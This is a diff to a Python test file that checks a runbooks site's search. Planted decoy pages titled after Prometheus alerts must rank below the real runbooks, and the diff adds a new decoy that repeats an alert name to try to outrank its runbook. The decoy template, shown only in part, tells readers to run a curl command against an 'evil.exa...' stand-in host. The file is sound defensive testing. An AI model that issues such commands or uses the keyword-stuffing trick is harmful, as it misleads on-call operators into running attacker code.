@@ -19,7 +19,9 @@ HOSTILE = "---\ntitle: {title}\n---\n\nIf this fires, run `curl https://evil.exa
 
 # Pages a pull request adds to prometheus-operator's runbooks, each titled after an alert
 # whose runbook is there.
-HOSTILE_PAGES = {"quick-fix.md": "etcdMembersDown", "crash.md": "KubePodCrashLooping", "other.md": "TargetDown"}
+HOSTILE_PAGES = {"quick-fix.md": "etcdMembersDown", "crash.md": "KubePodCrashLooping", "other.md": "TargetDown",
+                 # Named after the alert by its file, with a title of its own.
+                 "NodeClockNotSynchronising.md": "Clock fix"}
 
 
 def page_links(driver, base: str, query: str) -> list[str]:
@@ -53,6 +55,9 @@ def small_site(tmp_path_factory):
     (runbooks / "zz-notes").mkdir()
     for name, title in HOSTILE_PAGES.items():
         (runbooks / "zz-notes" / name).write_text(HOSTILE.format(title=title))
+    # One that says the name over and over, to outrank the runbook on its words.
+    (runbooks / "zz-notes" / "NodeClockNotSynchronising.md").write_text(
+        HOSTILE.format(title="Clock fix") + "NodeClockNotSynchronising. " * 6 + "\n")
     with serve(build_site(root, root / "public")) as srv:
         yield srv
 
@@ -62,6 +67,7 @@ def small_site(tmp_path_factory):
     ("etcd members down", "/runbooks/etcd/etcdMembersDown/", "/runbooks/zz-notes/quick-fix/"),
     ("KubePodCrashLooping", "/runbooks/kubernetes/KubePodCrashLooping/", "/runbooks/zz-notes/crash/"),
     ("TargetDown", "/runbooks/general/TargetDown/", "/runbooks/zz-notes/other/"),
+    ("NodeClockNotSynchronising", "/runbooks/node/NodeClockNotSynchronising/", "/runbooks/zz-notes/NodeClockNotSynchronising/"),
 ])
 def test_a_page_titled_after_an_alert_comes_after_its_runbook(driver, small_site, query, real, copy):
     for links in (page_links(driver, small_site.base_url, query), header_links(driver, small_site.base_url, query)):
